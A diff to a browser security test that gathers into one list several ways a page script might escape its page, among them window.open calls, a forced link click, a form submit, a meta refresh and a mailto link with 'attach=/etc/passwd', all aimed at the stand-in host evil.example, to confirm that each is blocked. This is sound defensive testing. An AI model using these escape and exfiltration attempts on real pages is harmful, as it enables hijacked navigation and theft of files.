@@ -120,28 +120,39 @@ it('runs no script but its own, and speaks to no other server', async () => {
   expect(refused.violations).toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src']));
 });
 
-it('opens nothing outside that no person has clicked, and stays on its own page (C06)', async () => {
-  const { page, stderr } = parley;
-  const address = page.url();
-  await page.evaluate(() => {
-    const link = Object.assign(document.createElement('a'), {
-      href: 'https://evil.example/link',
-      target: '_blank',
-    });
+/** What a script in the page could try, to show another page or to have one opened. */
+const waysOut: readonly (() => void)[] = [
+  () => void window.open('https://evil.example/opened'),
+  () => void window.open('https://evil.example/named', 'other', 'width=100'),
+  () => void window.open('mailto:a@evil.example?attach=/etc/passwd'),
+  () => {
+    const href = 'https://evil.example/link';
+    const link = Object.assign(document.createElement('a'), { href, target: '_blank' });
+    document.body.append(link);
+    link.click();
+    link.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
+  },
+  () => {
     const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form' });
+    document.body.append(form);
+    form.submit();
+  },
+  () => {
     const refresh = document.createElement('meta');
     refresh.httpEquiv = 'refresh';
     refresh.content = '0;url=https://evil.example/refresh';
-    document.body.append(link, form);
-    window.open('https://evil.example/opened');
-    window.open('https://evil.example/named', 'other', 'width=100');
-    window.open('mailto:a@evil.example?attach=/etc/passwd');
-    link.click();
-    link.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
-    form.submit();
     document.head.append(refresh);
+  },
+  () => {
     location.href = 'https://evil.example/left';
-  });
+  },
+];
+
+it('opens nothing outside that no person has clicked, and stays on its own page (C06)', async () => {
+  const { page, stderr } = parley;
+  const address = page.url();
+  // One after the other: each is refused before the next one begins.
+  for (const leaving of waysOut) await page.evaluate(leaving);
   // Whoever clicks afterwards opens what they clicked: by then all else would have been opened.
   await page.evaluate(() => {
     const own = Object.assign(document.createElement('a'), {
